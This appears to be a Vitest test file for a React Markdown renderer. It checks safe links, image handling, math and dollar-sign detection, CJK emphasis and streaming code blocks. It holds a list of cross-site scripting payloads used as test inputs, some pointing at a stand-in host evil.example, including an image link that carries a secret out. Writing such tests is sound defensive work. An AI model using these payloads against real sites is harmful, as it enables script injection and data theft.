import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { decodeEntities } from "./entities.ts";
import { Markdown } from "./markdown.tsx";
import { safeHref } from "./safe-link.tsx";

const render = (source: string, streaming = false) =>
  renderToStaticMarkup(createElement(Markdown, { source, streaming }));

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "text <b onmouseover=alert(1)>x</b>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/?secret)",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '[x](https://evil.example "\\" onclick=\\"alert(1)")',
  "<a href='javascript:alert(1)'>x</a>",
  "<style>@import 'https://evil.example'</style>",
  "<form action=https://evil.example><input name=x>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "[x]: javascript:alert(1)\n\n[x]",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
];
const TAG = /<\/?([a-z][a-z0-9]*)((?:\s[^<>]*)?)>/g;
const TAGS = new Set(
  "div p strong em del code pre figure figcaption button svg path span a br hr ul ol li blockquote section table thead tbody tr th td h3 h4 h5 h6 input".split(
    " ",
  ),
);

test.each(PAYLOADS)("renders harmlessly: %s", (payload) => {
  for (const streaming of [false, true]) {
    for (const [, tag, attributes] of render(payload, streaming).matchAll(TAG)) {
      expect(TAGS).toContain(tag);
      const names = attributes?.replace(/="[^"]*"/g, "=");
      expect(names).not.toMatch(/\son\w+\s*=|\ssrc\s*=|\sstyle\s*=|\saction\s*=/i);
      const href = /\shref="([^"]*)"/.exec(attributes ?? "")?.[1];
      if (href !== undefined) expect(href).toMatch(/^https?:\/\//);
    }
  }
});

test("opens links in a new tab without a referrer", () => {
  expect(render("[Redis](https://redis.io)")).toContain(
    '<a href="https://redis.io/" title="https://redis.io/" target="_blank" rel="noopener noreferrer nofollow">Redis</a>',
  );
});

test("shows an image as a link and never loads it", () => {
  const html = render("![A cat](https://example.com/cat.png)");
  expect(html).not.toContain("<img");
  expect(html).toContain(">A cat (image)</a>");
});

test("shows raw HTML as text", () => {
  expect(render("a <b>x</b>")).toContain("a &lt;b&gt;x&lt;/b&gt;");
  expect(render("a<br>b")).toContain("a<br/>b");
});

test("renders Markdown's elements", () => {
  const html = render(
    "# T\n\n1. a\n   - b\n2. c\n\n> q\n\n| h |\n|--:|\n| 1 |\n\n**s** _e_ ~~d~~ `c`\n\n- [x] done\n\n---",
  );
  for (const part of [
    "<h3",
    "<ol",
    "<ul",
    "<blockquote",
    'data-align="right"',
    "<strong>s</strong>",
    "<em>e</em>",
    "<del>d</del>",
    "<code>c</code>",
    "checked",
    "<hr/>",
  ]) {
    expect(html).toContain(part);
  }
});

test("accepts http and https addresses only", () => {
  expect(safeHref("https://redis.io/docs")).toBe("https://redis.io/docs");
  for (const href of [
    "javascript:alert(1)",
    " javascript:alert(1)",
    "data:,x",
    "/relative",
    "",
    "mailto:a@b.c",
    "ftp://x",
  ]) {
    expect(safeHref(href)).toBeNull();
  }
});

test("decodes character references", () => {
  expect(decodeEntities("&lt;b&gt; &amp;amp; &#65;&#x42; &nope; &hellip;")).toBe("<b> &amp; AB &nope; …");
  expect(decodeEntities("&toString; &valueOf;")).toBe("&toString; &valueOf;");
  expect(decodeEntities("&#0; &#xD800; &#1114112;")).toBe("\ufffd \ufffd \ufffd");
});

const plain = (html: string) => html.replace(/<[^>]+>/g, "");

test("shows formulas as source until they are rendered, and leaves prices alone", () => {
  const html = render(
    "The area is \\( \\pi r^2 \\) and\n\n\\[\nE = mc^2\n\\]\n\nand $$\\frac{a_1}{b_2}*c*$$ costs $5 and $10.",
  );
  expect(html.match(/<code class="math"/g)).toHaveLength(3);
  expect(html).not.toContain("<em>");
  expect(plain(html)).toContain("\\( \\pi r^2 \\)");
  expect(plain(html)).toContain("costs $5 and $10.");
});

test.each([
  ["Here $E = mc^2$ holds.", "$E = mc^2$"],
  ["If $x$, then ($\\alpha$).", "$x$", "$\\alpha$"],
  ["From $x_1$-th to $x_n$.", "$x_1$", "$x_n$"],
  ["$5 and $10, $5-$10, US$5/US$6, $1=\u20ac0.92 and \u20ac1=$1.09, or $ x^2 $"],
  ["PATH=$HOME/bin:$PATH and $FOO_BAR and $BAZ_BAR, `$x^2$` or \\$x^2$"],
  [
    "$O(n)$, $f(x, y)$, $(x_1, y_1)$ and $\\alpha$/$\\beta$",
    "$O(n)$",
    "$f(x, y)$",
    "$(x_1, y_1)$",
    "$\\alpha$",
    "$\\beta$",
  ],
  ["1$=0,92\u20ac und 1\u20ac=1,09$, 5$/Monat (=60$/Jahr), 5$, also x=2, und 10$, ($/kWh) = 5 ct, ($/MWh)"],
  ["1$=150\u5186\u30012$=300\u5186, $5m (margin = 20%), or 6m$, $0.01/1k tokens (gpt_4), 2$"],
  ['PATH=$MY_HOME/bin:$\u007bPATH} "$MY_VAR" > "$\u007bx}" $\u007ba_b}$\u007bc} $(MY_DIR)/$(X)'],
  ["Set $FOO_BAR to `$(pwd)`, $this->my_prop = `$`"],
])("takes single dollars for a formula's only where they look like it: %s", (source, ...formulas) => {
  const found = [...render(source).matchAll(/<code class="math"[^>]*>([^<]*)</g)].map(([, text]) => text);
  expect(found).toEqual(formulas);
});

test.each([
  [
    "**\u4e0d\u8981\u70b9\u5b89\u88c5\u3002**\u5b83\u4f1a\u51fa\u9519\u3002",
    "\u4e0d\u8981\u70b9\u5b89\u88c5\u3002",
  ],
  ["\u542b**\u300c\u91cd\u70b9\u300d**\u5185\u5bb9\u3002", "\u300c\u91cd\u70b9\u300d"],
  [
    "**Markdown\uff08\u6807\u8bb0\uff09**\u306f\u8efd\u91cf\u3067\u3059\u3002",
    "Markdown\uff08\u6807\u8bb0\uff09",
  ],
])("emphasises beside CJK punctuation: %s", (source, strong) => {
  expect(render(source)).toContain(`<strong>${strong}</strong>`);
});

test("strikes through two tildes only", () => {
  const html = render("It takes ~3~5 minutes. 20~25\u00b0C\u300220~25\u00b0C. ~~gone~~");
  expect(html.match(/<del>/g)).toHaveLength(1);
  expect(plain(html)).toContain("~3~5 minutes");
  expect(html).toContain("<del>gone</del>");
});

test("breaks lines where the model does", () => {
  expect(render("Roses are red\nViolets are blue")).toBe(
    '<div class="markdown"><p dir="auto">Roses are red<br/>Violets are blue</p></div>',
  );
});

test("gives each block the direction of its own text, and code always left to right", () => {
  const html = render("\u0627\u0633\u062a\u062e\u062f\u0645:\n\n```js\nfoo();\n```\n\nEnglish.");
  expect(html).toContain('<figure class="code" dir="ltr">');
  expect(html.match(/<p dir="auto">/g)).toHaveLength(2);
});

const README = "Here:\n\n```markdown\n# Tool\n\n```bash\nnpm i\n```\n\nThen run it.\n```\n\nDone.";

test("keeps a Markdown block with inner fences in one piece", () => {
  const html = render(README);
  expect(html.match(/<pre/g)).toHaveLength(1);
  expect(/<pre[\s\S]*<\/pre>/.exec(html)?.[0]).toContain("Then run it.");
  expect(html).toContain('<p dir="auto">Done.</p>');
});

test("leaves a Markdown block that never ends as CommonMark has it", () => {
  expect(render("```markdown\n```bash\nnpm i\n```\nText.")).toContain("Text.");
});

test("streams a Markdown block with inner fences without breaking it up", () => {
  for (let end = README.indexOf("npm"); end < README.indexOf("Done"); end++)
    expect(render(README.slice(0, end), true).match(/<pre/g)).toHaveLength(1);
});
